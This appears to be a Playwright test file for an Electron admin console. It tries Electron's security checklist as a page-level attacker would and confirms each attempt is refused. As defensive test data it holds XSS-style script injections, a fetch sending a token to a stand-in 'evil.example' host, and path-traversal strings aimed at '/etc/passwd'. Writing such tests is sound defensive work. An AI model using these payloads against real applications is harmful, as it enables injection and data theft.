@@ -1,0 +1,300 @@
+import { site } from '@olea/shared/site/facts';
+import type { Page } from '@playwright/test';
+import { listen } from '../../../scripts/site-server/listen.ts';
+import { describeDesktop, expect, signIn, test } from './desktopTest.ts';
+
+const EVIL = 'https://evil.example/';
+const SITE = `https://${site.productionDomains[0]}/`;
+/** What Chromium says about things it was told to refuse. */
+const REFUSED =
+  /Not allowed to load|Permissions policy|Content Security Policy|Failed to load resource|Mixed Content|CORS policy|Refused|violates|blocked/i;
+
+/**
+ * Electron's security checklist, each point tried as an attacker who can already run script in the page would try it, with a
+ * positive control beside it: the same means, used as intended, works.
+ */
+describeDesktop('the security checklist', (driver) => {
+  test('gives the page verbs and nothing of Node or Electron; frames do not load, and have no bridge', async ({
+    desktop,
+    backend,
+  }) => {
+    const app = await desktop.launch();
+    app.console.expect(REFUSED);
+    const { page } = app;
+    const found = await page.evaluate(() => {
+      const names = ['require', 'process', 'Buffer', 'module', 'global', 'ipcRenderer', 'electron', '__standInInvoke'];
+      try {
+        Reflect.set(window.desktop, 'start', () => 'replaced');
+        Reflect.set(window, 'desktop', {});
+      } catch {
+        // A frozen bridge may throw as well.
+      }
+      return {
+        leaked: names.filter((name) => name in window),
+        kinds: Object.values(window.desktop).map((verb) => typeof verb),
+      };
+    });
+    expect(found.leaked).toEqual([]);
+    expect(new Set(found.kinds)).toEqual(new Set(['function']));
+    // Control: the bridge still is the real one.
+    expect(await page.evaluate(() => window.desktop.start())).toMatchObject({ ok: true });
+
+    const violations = await watchViolations(page);
+    await inject(page, { tag: 'iframe', attributes: { src: `${backend.origin}/robots.txt` } });
+    await inject(page, { tag: 'iframe', attributes: { src: '/' } });
+    await expect.poll(violations).toEqual(['frame-src', 'frame-src']);
+    await inject(page, { tag: 'iframe', attributes: { srcdoc: '<p>inside' } });
+    expect(await page.evaluate(() => window.frames.length)).toBeGreaterThan(0);
+    const bridges = await page.evaluate(() =>
+      Array.from({ length: window.frames.length }, (_, index) => {
+        try {
+          return typeof Reflect.get(window.frames[index] as object, 'desktop');
+        } catch {
+          // A frame of another origin cannot even be looked at.
+          return 'undefined';
+        }
+      }),
+    );
+    expect(new Set(bridges)).toEqual(new Set(['undefined']));
+  });
+
+  test('no form posts anywhere, and the page cannot lift the lock without the password', async ({
+    desktop,
+    backend,
+  }) => {
+    const app = await desktop.launch();
+    app.console.expect(REFUSED);
+    // Control: the console's own form works, without posting.
+    await signIn(app);
+    await app.power('lock-screen');
+    await expect(app.page.getByRole('button', { name: 'Unlock' })).toBeVisible();
+    const attempts = await app.page.evaluate(async () => [
+      await window.desktop.releaseLock(),
+      await window.desktop.removeFromStore('session', 'console-lock'),
+      await window.desktop.writeStore('session', 'console-lock', ''),
+    ]);
+    expect(attempts).toEqual(Array(3).fill({ ok: false, code: 'forbidden' }));
+    await app.page.reload();
+    await expect(app.page.getByRole('button', { name: 'Unlock' })).toBeVisible();
+    // Control: the password lifts it (everyday.spec.ts).
+
+    // Last, because the refused form leaves a navigation that never ends, and Playwright waits for it.
+    const violations = await watchViolations(app.page);
+    await app.page.evaluate((action) => {
+      const form = Object.assign(document.createElement('form'), { action, method: 'post' });
+      document.body.append(form);
+      form.submit();
+    }, `${backend.origin}/anything`);
+    await expect.poll(violations).toContain('form-action');
+  });
+
+  // Control: text is put on the clipboard (walk.spec.ts). Electron and the stand-in grant everything until somebody refuses.
+  test('no permission is granted but to put text on the clipboard', async ({ desktop }) => {
+    const app = await desktop.launch();
+    app.console.expect(REFUSED);
+    const granted = await app.page.evaluate(async () => {
+      const { geolocation, mediaDevices, clipboard } = navigator;
+      const isGranted = (asked: Promise<unknown>) => asked.then(() => true).catch(() => false);
+      return [
+        await isGranted(new Promise((done, fail) => geolocation.getCurrentPosition(done, fail))),
+        (await Notification.requestPermission()) !== 'denied',
+        await isGranted(mediaDevices.getUserMedia({ video: true })),
+        await isGranted(clipboard.readText()),
+      ];
+    });
+    expect(granted).toEqual([false, false, false, false]);
+  });
+
+  test('no script runs that is not a file of the console', async ({ desktop, backend }) => {
+    const app = await desktop.launch();
+    app.console.expect(REFUSED);
+    const { page } = app;
+    const violations = await watchViolations(page);
+    const ran = () => page.evaluate(() => 'pwned' in window);
+
+    await inject(page, { tag: 'script', text: 'window.pwned = 1' });
+    await inject(page, { tag: 'img', attributes: { src: '/none.png', onerror: 'window.pwned = 1' } });
+    await page.evaluate(() => {
+      const link = Object.assign(document.createElement('a'), {
+        href: 'javascript:window.pwned = 1',
+        textContent: 'x',
+      });
+      document.body.append(link);
+      link.click();
+    });
+    for (const kind of ['eval', 'function', 'timer'] as const) expect(await inOwnTask(page, kind)).toBe('refused');
+    // A script of the very host that the page may call, one of a foreign host, and one in the address itself.
+    for (const src of [`${backend.origin}/forms/embed/v2.js`, `${EVIL}x.js`, 'data:text/javascript,window.pwned=1'])
+      expect(await inject(page, { tag: 'script', attributes: { src } }), src).toBe('refused');
+    expect(await ran()).toBe(false);
+    const seen = await violations();
+    for (const directive of ['script-src-elem', 'script-src-attr', 'script-src']) expect(seen).toContain(directive);
+
+    // Controls: the script of the console may be loaded, which is all that is asked of it: run twice, it would mount a second console. That
+    // other script exists and runs where it is allowed to.
+    const own = await page.evaluate(() => document.querySelector('script[type=module]')?.getAttribute('src') ?? '');
+    const preload = (href: string) => inject(page, { tag: 'link', attributes: { rel: 'modulepreload', href } });
+    expect(await preload(`${own}?again`)).toBe('loaded');
+    expect(await preload(`${EVIL}x.js`)).toBe('refused');
+    expect(await (await fetch(`${backend.origin}/forms/embed/v2.js`)).text()).toContain('hbspt');
+  });
+
+  test('nothing is loaded over http or from a foreign host; the backend answers', async ({ desktop, backend }) => {
+    const app = await desktop.launch();
+    app.console.expect(REFUSED);
+    const { page } = app;
+    const violations = await watchViolations(page);
+    const asked: string[] = [];
+    const foreign = await listen((request, response) => {
+      if (request.headers['user-agent']?.includes('Chrome')) asked.push(request.url ?? '');
+      response.setHeader('access-control-allow-origin', '*').end('x');
+    });
+    const call = (url: string) => page.evaluate((address) => fetch(address).then(() => 'answered', String), url);
+    const picture = { tag: 'img', attributes: { src: `${backend.origin}/apple-touch-icon.png` } };
+    const sheet = { tag: 'link', attributes: { rel: 'stylesheet', href: `${foreign.origin}/x.css` } };
+    for (const part of [picture, sheet]) expect(await inject(page, part), part.tag).toBe('refused');
+    expect(await call(foreign.origin)).toBe('TypeError: Failed to fetch');
+    expect(await call(`${EVIL}collect?token=x`)).toBe('TypeError: Failed to fetch');
+    await page.evaluate((url) => void navigator.sendBeacon(url, 'x'), foreign.origin);
+    expect(asked).toEqual([]);
+    expect(await violations()).toEqual(expect.arrayContaining(['img-src', 'style-src-elem', 'connect-src']));
+    // Controls: the picture is there, the foreign server answers others, and the page reaches its backend.
+    expect((await fetch(picture.attributes.src)).headers.get('content-type')).toContain('image/png');
+    expect((await fetch(foreign.origin)).status).toBe(200);
+    expect(await call(`${backend.origin}/auth/v1/health`)).toBe('answered');
+    await foreign.close();
+  });
+
+  test('window.open opens nothing; the site goes to the system browser', async ({ desktop }) => {
+    const app = await desktop.launch();
+    app.console.expect(REFUSED);
+    // Every address: tests/admin-desktop/main/address/externalLinks.test.ts.
+    for (const address of [EVIL, 'file:///etc/passwd', 'about:blank', 'data:text/html,hello'])
+      await app.page.evaluate((url) => void window.open(url, '_blank'), address);
+    await app.page.evaluate((url) => {
+      const link = Object.assign(document.createElement('a'), { href: url, target: '_blank', textContent: 'x' });
+      document.body.append(link);
+      link.click();
+    }, EVIL);
+    await expect.poll(() => app.page.context().pages().length).toBe(1);
+    expect((await app.inspect()).opened).toEqual([]);
+    // Control: the same call with an address on the list reaches the system browser, and still no window opens.
+    await app.page.evaluate((url) => void window.open(url, '_blank'), SITE);
+    await expect.poll(async () => (await app.inspect()).opened).toEqual([SITE]);
+    await expect.poll(() => app.page.context().pages().length).toBe(1);
+  });
+
+  test('no navigation leaves the console; its own screens open', async ({ desktop }) => {
+    const app = await desktop.launch();
+    app.console.expect(REFUSED);
+    await expect(app.page.getByRole('button', { name: 'Sign in' })).toBeVisible();
+    const here = app.page.url();
+    // Every address: tests/admin-desktop/main/address/consoleAddress.test.ts.
+    for (const address of [EVIL, 'file:///etc/passwd', `${desktop.driver.consoleOrigin}/assets/`]) {
+      await app.page.evaluate((url) => window.location.assign(url), address).catch(() => undefined);
+      await app.page.waitForTimeout(200);
+      expect(app.page.url()).toBe(here);
+    }
+    await inject(app.page, { tag: 'meta', attributes: { 'http-equiv': 'refresh', content: `0;url=${EVIL}` } });
+    expect(app.page.url()).toBe(here);
+    expect((await app.inspect()).opened).toEqual([]);
+    // Control: the console's own address.
+    await app.page.evaluate(() => window.location.assign('/simple-admin'));
+    await expect(app.page).toHaveURL(`${desktop.driver.consoleOrigin}/simple-admin`);
+    await expect(app.page.getByRole('button', { name: 'Sign in' })).toBeVisible();
+  });
+
+  test('no path leads out of the served folder; no malformed call, and none from another frame, is answered', async ({
+    desktop,
+  }) => {
+    const app = await desktop.launch();
+    app.console.expect(REFUSED);
+    // Further paths in tests/admin-desktop/main/address/consoleProtocol.test.ts.
+    const fromPage = await app.page.evaluate(
+      (all) => Promise.all(all.map(async (path) => (await fetch(path)).status)),
+      ['/..%2fmain/index.js', '/assets/..%2f..%2fpreload%2findex.cjs'],
+    );
+    expect(fromPage).toEqual([404, 404]);
+    // Control: what is in the folder is served.
+    expect((await app.fetchConsole('app://console/index.html')).body).toContain('<title>');
+
+    // Every channel's parser in tests/admin-desktop/ipc/contract.test.ts, every address in externalLinks.test.ts.
+    const malformed = await app.page.evaluate(() => window.desktop.readStore('session', '../../etc/passwd'));
+    expect(malformed).toEqual({ ok: false, code: 'invalid' });
+    const open = (url: string) => app.page.evaluate((address) => window.desktop.openExternal(address), url);
+    expect(await open(EVIL)).toEqual({ ok: false, code: 'forbidden' });
+    // Every frame: tests/admin-desktop/main/calls/handle.test.ts.
+    const callOf = (url: string, top: boolean) => app.invokeFrom({ url, top }, 'store:get', ['session', 'nothing']);
+    for (const [url, top] of [
+      [EVIL, true],
+      ['app://console/', false],
+    ] as const)
+      expect(await callOf(url, top)).toEqual({ ok: false, code: 'forbidden' });
+    // Controls.
+    expect(await callOf('app://console/', true)).toEqual({ ok: true, value: null });
+    expect(await open(SITE)).toEqual({ ok: true, value: null });
+    expect((await app.inspect()).opened).toEqual([SITE]);
+  });
+
+  if (driver !== 'stand-in') return;
+
+  test('downloads are cancelled', async ({ desktop }) => {
+    const { page } = await desktop.launch();
+    const started = page.waitForEvent('download');
+    await page.evaluate(() => {
+      const href = URL.createObjectURL(new Blob(['x']));
+      Object.assign(document.createElement('a'), { href, download: 'x.exe' }).click();
+    });
+    expect(await (await started).failure()).not.toBeNull();
+  });
+});
+
+/** Directives that Chromium refused something for, from now on. */
+async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
+  await page.evaluate(() => {
+    const seen: string[] = [];
+    Reflect.set(window, 'seenViolations', seen);
+    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
+  });
+  return () => page.evaluate(() => Reflect.get(window, 'seenViolations') as string[]);
+}
+
+/** Puts markup into the page as an injection would, and waits long enough for anything in it to run or load. */
+async function inject(page: Page, make: { tag: string; attributes?: Record<string, string>; text?: string }) {
+  return page.evaluate(
+    ({ tag, attributes = {}, text = '' }) =>
+      new Promise<'loaded' | 'refused' | 'nothing happened'>((resolve) => {
+        const element = document.createElement(tag);
+        element.addEventListener('load', () => resolve('loaded'));
+        element.addEventListener('error', () => resolve('refused'));
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+        element.textContent = text;
+        document.body.append(element);
+        setTimeout(() => resolve('nothing happened'), 1500);
+      }),
+    make,
+  );
+}
+
+/** Runs code in a task of the page's own, where the policy counts; code that a debugger evaluates is exempt from it. */
+async function inOwnTask(page: Page, code: 'eval' | 'function' | 'timer'): Promise<'ran' | 'refused'> {
+  return page.evaluate(
+    (kind) =>
+      new Promise<'ran' | 'refused'>((resolve) => {
+        Reflect.deleteProperty(window, 'pwned');
+        const attack = () => {
+          try {
+            // biome-ignore lint/security/noGlobalEval: this is the attack
+            if (kind === 'eval') globalThis.eval('window.pwned = 1');
+            if (kind === 'function') new Function('window.pwned = 1')();
+            if (kind === 'timer') window.setTimeout('window.pwned = 1', 0);
+          } catch {
+            // Refused with an exception; the marker below is what counts.
+          }
+        };
+        setTimeout(attack, 20);
+        setTimeout(() => resolve('pwned' in window ? 'ran' : 'refused'), 300);
+      }),
+    code,
+  );
+}
